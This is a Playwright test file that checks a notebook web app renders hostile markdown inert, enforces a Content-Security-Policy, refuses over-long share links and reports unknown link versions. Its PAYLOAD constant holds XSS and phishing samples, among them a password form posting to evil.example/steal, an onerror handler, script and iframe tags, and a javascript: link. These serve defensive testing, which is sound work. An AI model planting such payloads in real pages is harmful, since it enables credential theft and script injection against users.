// Issue 21, browser side: hostile markdown in a link or a file is inert, the built site carries a
// Content-Security-Policy and trains under it, over-long links are refused, unknown link versions
// are reported.
import { expect, test, type Page } from '@playwright/test';
import { defaultNotebook, encodeNotebookLink, writeNotebookFile, type Notebook } from '../src/notebook/index.ts';
import { labUrl, TINY } from './helpers.ts';

const PAYLOAD = [
  '# Hostile',
  '<style>button{visibility:hidden!important}</style>',
  '<div style="position:fixed;inset:0;background:red">cover</div>',
  '<form action="http://evil.example/steal" method="post"><input type="password" name="pw"><button>Log in</button></form>',
  '<img src="http://evil.example/p.png" alt="tracker">',
  '<img src="x" onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x"></object>',
  '<svg><style>*{display:none}</style></svg>',
  '[click](javascript:window.__pwned=3) [ok](https://example.org/)',
  'Math still works: $a^2 + b^2$',
].join('\n\n');

const hostileNotebook = (): Notebook => {
  const notebook = defaultNotebook();
  return {
    ...notebook,
    title: 'Hostile notebook',
    cells: notebook.cells.map((c) => (c.kind === 'markdown' ? { ...c, text: PAYLOAD } : c)),
  };
};

/** Records requests to any host but the lab's, CSP violations and the payload flag. */
async function watch(page: Page) {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.hostname !== '127.0.0.1') foreign.push(request.url());
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __pwned: number; __violations: string[] };
    w.__pwned = 0;
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(
        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber} ${e.sample}`,
      ),
    );
  });
  return foreign;
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

async function expectInert(page: Page, foreign: string[]) {
  const intro = page.locator('[data-cell-kind="markdown"]').first();
  await expect(intro.getByRole('heading', { name: 'Hostile' })).toBeVisible();
  await expect(intro.locator('.katex')).toHaveCount(1);
  for (const tag of [
    'style',
    'form',
    'input',
    'iframe',
    'object',
    'svg',
    'script',
    '[style]',
    'img[onerror]',
    'img[src^="http://evil"]',
  ]) {
    await expect(intro.locator(tag).and(page.locator(':not(.katex *)'))).toHaveCount(0);
  }
  await expect(page.getByRole('button', { name: 'Start' })).toBeVisible();
  await expect(intro.locator('a[title^="An image from another site"]')).toHaveAttribute(
    'href',
    'http://evil.example/p.png',
  );
  await expect(intro.locator('a[href^="javascript"]')).toHaveCount(0);
  await expect(intro.getByRole('link', { name: 'ok' })).toHaveAttribute('rel', 'noopener noreferrer');
  expect(await page.evaluate(() => (window as unknown as { __pwned: number }).__pwned)).toBe(0);
  expect(foreign).toEqual([]);
}

test('a link and a file carrying style, form, image and script payloads open with all of them inert; the lab trains under its CSP', async ({
  page,
}, testInfo) => {
  const foreign = await watch(page);
  await page.goto(`/${encodeNotebookLink(hostileNotebook()).hash}`);
  await expectInert(page, foreign);
  await page.screenshot({ path: testInfo.outputPath('hostile-link.png') });

  await page.goto('/');
  await page.locator('input[type="file"]').setInputFiles({
    name: 'hostile.tasklab.json',
    mimeType: 'application/json',
    buffer: Buffer.from(writeNotebookFile(hostileNotebook())),
  });
  await expect(page.getByLabel('Notebook title')).toHaveValue('Hostile notebook');
  await expectInert(page, foreign);

  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(policy).toContain("form-action 'self'");
  expect(policy).toContain("img-src 'self' data: blob:");

  // The policy is live: it also refused the hostile onerror attribute while DOMPurify parsed it.
  const onOpen = await violations(page);
  expect(onOpen.length).toBeGreaterThan(0);
  expect(onOpen.filter((v) => !v.startsWith('script-src-attr inline'))).toEqual([]);

  // Training on wasm (workers, wasm compilation) under the policy, with the hostile notebook open.
  await page.goto(labUrl(TINY, 'wasm'));
  await page.getByRole('button', { name: 'Start' }).click();
  await expect(page.getByTestId('run-status')).toHaveAttribute('data-status', 'done', { timeout: 90_000 });
  await expect(page.getByTestId('results-table').locator('tbody tr')).not.toHaveCount(0);
  // Nothing the lab itself needs was blocked (only the hostile attribute of the notebook still open).
  expect((await violations(page)).filter((v) => !v.startsWith('script-src-attr inline'))).toEqual([]);
  await page.screenshot({ path: testInfo.outputPath('trained-under-csp.png'), fullPage: true });
});

test('Copy link refuses a link browsers cannot open and offers Save file; an unknown link version says so', async ({
  page,
}) => {
  await page.goto('/');
  // Text that does not compress: the link grows past the stated limit.
  let state = 2463534242;
  const next = () => ((state ^= state << 13), (state ^= state >>> 17), (state ^= state << 5), state >>> 0);
  const noise = () =>
    Array.from({ length: 95_000 }, () => 'abcdefghijklmnopqrstuvwxyz0123456789'[next() % 36]).join('');
  const big = {
    ...defaultNotebook(),
    title: 'Too big to link',
    cells: Array.from({ length: 20 }, (_, i) => ({ id: `m${i}`, kind: 'markdown' as const, text: noise() })),
  };
  await page.locator('input[type="file"]').setInputFiles({
    name: 'big.tasklab.json',
    mimeType: 'application/json',
    buffer: Buffer.from(writeNotebookFile(big)),
  });
  await expect(page.getByLabel('Notebook title')).toHaveValue('Too big to link');
  await page.getByRole('button', { name: 'Copy link' }).click();
  const refusal = page.getByTestId('share-too-long');
  await expect(refusal).toContainText('browsers cannot open links over about 2 million');
  await expect(refusal.getByRole('button', { name: 'Save file' })).toBeVisible();
  await expect(page.getByTestId('share-link')).toHaveCount(0);

  await page.goto('about:blank');
  await page.goto('/#v2.abcdef');
  await expect(page.getByRole('heading', { name: 'This link could not be opened' })).toBeVisible();
  await expect(page.getByText('this link has format v2; this TaskLab opens v1 links')).toBeVisible();
});
